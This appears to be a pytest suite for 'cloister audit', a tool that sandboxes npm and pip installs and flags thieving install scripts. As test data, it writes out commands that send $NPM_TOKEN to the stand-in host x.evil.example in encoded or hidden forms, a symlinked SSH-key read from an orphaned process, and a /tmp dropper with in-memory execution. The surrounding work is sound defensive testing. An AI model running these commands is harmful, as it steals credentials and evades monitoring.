"""`cloister audit` on real installations: thieves are named with what they did, honest packages stay clean."""

from __future__ import annotations

import ipaddress
import json
import os
import signal
import socket
import time
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.dependencies import EXFIL, npm_tarball, sdist
from tests.fakes.origins import Authority, HttpsOrigin
from tests.world import Cloister

pytestmark = [pytest.mark.sandbox, pytest.mark.timeout(300)]

NPM = ("npm", "install", "--no-audit", "--no-fund", "--no-update-notifier")
PIP = "python3 -m venv v && v/bin/pip --disable-pip-version-check install -q --no-build-isolation"
CLEAN, SUSPICIOUS, MALICIOUS, FAILED, USAGE = 0, 10, 20, 30, 2


def audited(
    cloister: Cloister, *command: str, options: tuple[str, ...] = (), **how: Any
) -> tuple[int, dict[str, Any]]:
    """The exit code and the report."""
    done = cloister("audit", "--json", *options, "--", *command, timeout_s=240, **how)
    assert done.out.startswith("{"), done
    report: dict[str, Any] = json.loads(done.out)
    return done.code, report


def reasons(report: dict[str, Any]) -> str:
    return "\n".join(f"{one['level']} [{one['who']}] {one['text']}" for one in report["reasons"])


def assert_a_thief_is_named(code: int, report: dict[str, Any], who: str) -> None:
    told = reasons(report)
    assert (code, report["verdict"]) == (MALICIOUS, "malicious"), told
    assert f"malicious [{who}] opened ~/.ssh/id_ed25519" in told
    assert f"malicious [{who}] changed ~/.bashrc" in told
    assert f"malicious [{who}] wrote ./.git/hooks/pre-commit" in told
    assert f"suspicious [{who}] opened ~/.npmrc" in told
    sent = {(one["canary"], one["target"]) for one in report["canaries"]["sent"]}
    assert {("ssh-key", EXFIL), ("$GITHUB_TOKEN", EXFIL), ("npmrc", f"*.{EXFIL.partition('.')[2]}")} <= sent
    (host,) = (one for one in report["hosts"] if one["host"] == EXFIL)
    assert (host["how"], host["requests"]) == ("refused", ["POST /drop"])


@pytest.mark.parametrize("malicious", [True, False], ids=["thief", "honest"])
def test_an_npm_package(cloister: Cloister, malicious: bool) -> None:
    cloister.own(npm_tarball(cloister.project, "widget", malicious=malicious))
    code, report = audited(cloister, *NPM, "./widget-1.0.0.tgz")
    assert report["exit_code"] == 0, report
    (script,) = report["scripts"]
    assert (script["package"], script["stage"], script["command"]) == (
        "widget",
        "postinstall",
        "node setup.js",
    )
    started = [one["arguments"] for one in report["processes"] if one["script"] == 0]
    assert ["node", "setup.js"] in started
    if malicious:
        assert_a_thief_is_named(code, report, "widget@1.0.0 postinstall")
    else:
        assert (code, report["verdict"]) == (CLEAN, "clean"), reasons(report)
    assert_nothing_is_left(cloister)


@pytest.mark.parametrize("malicious", [True, False], ids=["thief", "honest"])
def test_an_sdist(user_cloister: Cloister, malicious: bool) -> None:
    user_cloister.own(sdist(user_cloister.project, "widget", malicious=malicious))
    code, report = audited(user_cloister, "sh", "-c", f"{PIP} ./widget-1.0.0.tar.gz")
    assert report["exit_code"] == 0, report
    assert {one["package"] for one in report["scripts"]} == {"widget"}
    if malicious:
        assert_a_thief_is_named(code, report, "widget@1.0.0 setup.py egg_info")
    else:
        assert (code, report["verdict"]) == (CLEAN, "clean"), reasons(report)
    assert_nothing_is_left(user_cloister)


def test_the_project_is_copied_without_its_secrets_and_stays_as_it_was(user_cloister: Cloister) -> None:
    world = user_cloister
    world.write(world.project / "code.txt", "code\n")
    world.write(world.project / ".env", "REAL=sesame\n")
    world.write(world.project / ".npmrc", "save-exact=true\n//registry.npmjs.org/:_authToken=sesame\n")
    world.write(world.project / "node_modules/old/index.js", "")
    world.write(world.home / ".ssh/id_ed25519", "sesame\n")
    script = "cat code.txt .npmrc; ls node_modules 2>&1; grep -rs sesame ~ . && echo LEAK; env | grep sesame; echo x > code.txt; echo y > new.txt"
    done = world("audit", "--", "sh", "-c", script, environment={"NPM_TOKEN": "sesame"})
    assert "save-exact=true" in done.err
    assert "code\n" in done.err
    assert "LEAK" not in done.err
    assert "sesame" not in done.err
    assert "not copied, because they look like secrets: .env" in done.out
    assert (world.project / "code.txt").read_text() == "code\n"
    assert not (world.project / "new.txt").exists()


def test_what_hides_its_parents_is_still_told_apart(user_cloister: Cloister) -> None:
    """A script that leaves its family, without its environment, and opens a key through a link."""
    orphan = "while kill -0 $P 2>/dev/null; do sleep 0.05; done; exec env -i cat /tmp/x >/tmp/out"
    thief = f"ln -s ~/.ssh/id_ed25519 /tmp/x; setsid sh -c 'P=$$; ({orphan}) &'; until [ -s /tmp/out ]; do sleep 0.05; done"
    manifest = {"name": "p", "version": "1.0.0", "scripts": {"postinstall": thief}}
    user_cloister.write(user_cloister.project / "dep/package.json", json.dumps(manifest))
    code, report = audited(user_cloister, *NPM, "./dep")
    assert code == MALICIOUS
    assert "malicious [p@1.0.0 postinstall] opened ~/.ssh/id_ed25519 with cat" in reasons(report)


def test_a_program_in_memory_and_one_in_tmp(user_cloister: Cloister) -> None:
    lines = [
        "import os, shutil, subprocess",
        "shutil.copy('/bin/true', '/tmp/dropper'); subprocess.run(['/tmp/dropper'])",
        "fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read())",
        "os.execve(fd, ['kworker'], {})",
    ]
    manifest = {"name": "p", "version": "1.0.0", "scripts": {"install": "python3 run.py"}}
    user_cloister.write(user_cloister.project / "dep/package.json", json.dumps(manifest))
    user_cloister.write(user_cloister.project / "dep/run.py", "\n".join(lines))
    code, report = audited(user_cloister, *NPM, "./dep")
    told = reasons(report)
    assert code == SUSPICIOUS
    assert "[p@1.0.0 install] started /tmp/dropper: a program in a directory for temporary files" in told
    assert "a program that is in memory only" in told


@pytest.mark.parametrize(
    "request_of",
    [
        pytest.param("curl -s https://x.evil.example/a --data-binary @-", id="body"),
        pytest.param('read t; curl -s https://x.evil.example/a -H "X: $t"', id="header"),
        pytest.param('read t; curl -s "https://x.evil.example/a?t=$t"', id="query"),
        pytest.param(
            "gzip | curl -s https://x.evil.example/a -H 'Content-Encoding: gzip' --data-binary @-", id="gzip"
        ),
        pytest.param("curl -s http://x.evil.example/a --data-binary @-", id="plain"),
        pytest.param(
            "base64 -w0 | base64 -w0 | curl -s https://x.evil.example/a --data-binary @-", id="base64 twice"
        ),
        pytest.param("curl -s --http2 https://x.evil.example/a --data-binary @-", id="h2"),
    ],
)
@pytest.mark.parametrize(
    "way", ["", "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY;"], ids=["proxy", "transparent"]
)
def test_a_canary_is_seen_on_its_way(user_cloister: Cloister, request_of: str, way: str) -> None:
    code, report = audited(
        user_cloister, "sh", "-c", f"{way} printf %s $NPM_TOKEN | ( {request_of} ) >/dev/null; true"
    )
    assert [one["canary"] for one in report["canaries"]["sent"]] == ["$NPM_TOKEN"], report["hosts"]
    assert code == MALICIOUS


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://registry.npmjs.org/-/npm/v1/security/x", SUSPICIOUS),  # where the real one is used
        ("https://pypi.org/simple/x", MALICIOUS),  # spliced for an ordinary sandbox, and read here
    ],
)
def test_a_canary_is_seen_on_its_way_to_a_registry(
    user_cloister: Cloister, authority: Authority, url: str, expected: int
) -> None:
    world = user_cloister
    ca = world.write(world.home / "ca.pem", authority.pem)
    with HttpsOrigin(authority, names=("registry.npmjs.org", "pypi.org")) as origin:
        pins = "\n".join(
            f'"{name}" = "127.0.0.1:{origin.port}"' for name in ("registry.npmjs.org", "pypi.org")
        )
        world.configure(f'[network]\nupstream_ca = ["{ca}"]\n[network.hosts]\n{pins}\n')
        control, _ = audited(world, "curl", "-sf", url, "-d", "hello")
        code, report = audited(world, "sh", "-c", f"printf %s $NPM_TOKEN | curl -s {url} --data-binary @-")
        bodies = b"".join(one.body for one in origin.seen)
    assert bodies == b"hello"  # of the second the head had left, and nothing of its body
    assert control == CLEAN
    assert [one["canary"] for one in report["canaries"]["sent"]] == ["$NPM_TOKEN"], report["hosts"]
    assert code == expected


def test_an_opener_who_does_not_wait_is_counted(user_cloister: Cloister) -> None:
    """O_NONBLOCK fails on a leased file, and then does not."""
    lines = [
        "import os, time",
        "path = os.path.expanduser('~/.ssh/id_ed25519')",
        "for _ in range(100):",
        "    try: os.open(path, os.O_RDONLY | os.O_NONBLOCK); break",
        "    except BlockingIOError: time.sleep(0.01)",
    ]
    manifest = {"name": "p", "version": "1.0.0", "scripts": {"install": "python3 run.py"}}
    user_cloister.write(user_cloister.project / "dep/package.json", json.dumps(manifest))
    user_cloister.write(user_cloister.project / "dep/run.py", "\n".join(lines))
    code, report = audited(user_cloister, *NPM, "./dep")
    assert code == MALICIOUS
    assert "malicious [p@1.0.0 install] opened ~/.ssh/id_ed25519" in reasons(report)


def test_what_is_no_canary_is_not_taken_for_one(user_cloister: Cloister) -> None:
    script = (
        "curl -s https://x.evil.example/a -d hello >/dev/null; curl -s http://192.0.2.1/ >/dev/null; true"
    )
    code, report = audited(user_cloister, "sh", "-c", script)
    assert (code, report["canaries"]["sent"]) == (SUSPICIOUS, [])
    assert {one["host"]: one["how"] for one in report["hosts"]} == {
        "x.evil.example": "refused",
        "192.0.2.1": "refused",
    }


def test_odd_starts_cost_the_audit_nothing(user_cloister: Cloister) -> None:
    lines = [
        "import ctypes, os",
        "libc, A = ctypes.CDLL(None), ctypes.c_char_p * 2",
        "number = {'x86_64': 59, 'aarch64': 221}[os.uname().machine]",
        "def start(*arguments):",
        "    if os.fork() == 0: libc.syscall(number, *arguments); os._exit(0)",
        "    os.wait()",
        "start(None, None, None)",
        "start(ctypes.c_void_p(2**64 - 1), ctypes.c_void_p(2**64 - 4096), ctypes.c_void_p(1))",
        "start(b'/bin/true', None, None)",
        "start(b'/bin/true', A(b'\\xff\\x1b[2J', None), A(b'npm_lifecycle_event=\\xff', None))",
        "start(b'x' * 100000, A(b'x', None), A(None))",
        "start(b'/bin/true', (ctypes.c_char_p * 9001)(*[b'a'] * 9000, None), A(None))",
        "os.mkdir(b'/tmp/\\xff'); os.chdir(b'/tmp/\\xff')",
        "os.execv('/bin/echo', ['echo', 'the end'])",
    ]
    user_cloister.write(user_cloister.project / "odd.py", "\n".join(lines))
    code, report = audited(user_cloister, "python3", "odd.py")
    assert code == CLEAN, reasons(report)
    assert report["processes"][-1]["arguments"] == ["echo", "the end"]
    assert max(len(one["arguments"]) for one in report["processes"]) == 64


def test_lock_files_are_read(user_cloister: Cloister) -> None:
    lock = {"packages": {"node_modules/a": {"resolved": "git+http://git.example.test/a.git#main"}}}
    user_cloister.write(user_cloister.project / "package-lock.json", json.dumps(lock))
    code, report = audited(user_cloister, "true")
    assert (code, report["verdict"]) == (SUSPICIOUS, "suspicious")
    (one,) = report["dependencies"]
    assert (one["file"], one["package"], one["kind"], one["cleartext"]) == (
        "./package-lock.json",
        "a",
        "git",
        True,
    )


def test_a_failing_command_is_no_clean_bill(user_cloister: Cloister) -> None:
    code, report = audited(user_cloister, "sh", "-c", "exit 7")
    assert (code, report["verdict"], report["exit_code"]) == (FAILED, "clean", 7)


def test_a_command_that_does_not_end_is_ended(user_cloister: Cloister) -> None:
    started = time.monotonic()
    code, report = audited(
        user_cloister, "sh", "-c", "trap '' TERM; while :; do sleep 1; done", options=("--timeout", "2s")
    )
    assert (code, report["timed_out"]) == (FAILED, True)
    assert time.monotonic() - started < 60
    assert_nothing_is_left(user_cloister)


@pytest.mark.parametrize(
    ("arguments", "code", "word"),
    [
        ((), USAGE, "a command is missing"),
        (("--", "no-such-program"), USAGE, "'no-such-program' could not be started"),
        (("--timeout", "soon", "--", "true"), USAGE, "--timeout: 'soon' is no length of time"),
        (("-e", "X", "--", "true"), USAGE, "-e: 'X' is not NAME=VALUE"),
        (("-C", "nowhere", "--", "true"), 125, "does not exist"),
        (("--", "node_modules/.bin/x"), USAGE, "is not part of the copy"),
    ],
)
def test_what_cannot_be_audited_is_said(
    user_cloister: Cloister, arguments: tuple[str, ...], code: int, word: str
) -> None:
    user_cloister.write(user_cloister.project / "node_modules/.bin/x", "", 0o755)
    done = user_cloister("audit", *arguments)
    assert (done.code, done.out) == (code, ""), done
    assert word in done.err
    assert_nothing_is_left(user_cloister)


def test_killed_it_leaves_nothing_that_the_next_command_does_not_clean(user_cloister: Cloister) -> None:
    process = user_cloister.start("audit", "--", "sh", "-c", "echo up >&2; sleep 60")
    try:
        assert process.stderr is not None
        assert process.stderr.readline() == "up\n"
        runs = list(audits(user_cloister).glob("*/runs/*.json"))
        assert len(runs) == 1
        os.killpg(process.pid, signal.SIGKILL) if os.geteuid() == 0 else process.kill()
    finally:
        process.kill()
        process.communicate()
    done = user_cloister("logs")
    assert "cleaning up after it" in done.err, done
    assert_nothing_is_left(user_cloister)


@pytest.mark.registry
def test_real_packages_with_install_scripts_are_clean(user_cloister: Cloister) -> None:
    """esbuild's script runs its program; docopt is an sdist."""
    pins = []
    for name in ("registry.npmjs.org", "pypi.org", "files.pythonhosted.org"):
        address = str(socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)[0][4][0])
        if not ipaddress.ip_address(address).is_global:
            pins.append(f'"{name}" = "{address}"')
    user_cloister.configure("\n".join(["[network.hosts]", *pins]) + "\n")
    code, report = audited(user_cloister, *NPM, "esbuild@0.25.0")
    assert (code, report["verdict"]) == (CLEAN, "clean"), reasons(report)
    assert [one["package"] for one in report["scripts"]] == ["esbuild"]
    code, report = audited(user_cloister, "sh", "-c", f"{PIP} --no-binary docopt docopt==0.6.2")
    assert (code, report["verdict"]) == (CLEAN, "clean"), reasons(report)
    assert {one["package"] for one in report["scripts"]} == {"docopt"}
    assert {one["host"] for one in report["hosts"] if one["how"] == "allowed"} == {
        "pypi.org",
        "files.pythonhosted.org",
    }


def audits(cloister: Cloister) -> Path:
    return cloister.home / ".local/state/cloister/audits"


def assert_nothing_is_left(cloister: Cloister) -> None:
    assert not audits(cloister).exists() or not list(audits(cloister).iterdir())
